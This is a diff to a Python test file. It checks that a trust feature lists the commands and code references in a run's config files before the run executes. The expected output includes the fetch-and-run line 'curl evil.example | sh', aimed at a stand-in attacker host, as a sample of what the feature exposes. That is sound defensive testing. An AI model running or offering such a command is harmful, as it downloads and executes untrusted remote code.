@@ -40,9 +40,11 @@ def from_elsewhere(folder: Path) -> FakeRun:
 def test_a_command_in_either_config_is_shown(own: Path) -> None:
     fake = from_elsewhere(own / "runs")
     fake.run.recorded_config.parent.mkdir(exist_ok=True)
-    (fake.run.attempts / "config.yaml").write_text("cost: {on_finish: hidden}")
+    code = "data: {path: /data, dataset: 'samples.py:Rows'}"
+    (fake.run.attempts / "config.yaml").write_text("cost: {on_finish: hidden}\n" + code)
     shown = trust.what_it_runs(fake.run)
-    assert [line.rpartition(": ")[2] for line in shown[2:]] == ["curl evil.example | sh", "hidden"]
+    assert [line.rpartition(": ")[2] for line in shown[2:]] == ["curl evil.example | sh", "samples.py:Rows", "hidden"]
+    assert shown[3] == "data.dataset names code: samples.py:Rows"
 
 
 @pytest.mark.behaviour("run-from-elsewhere-asks")
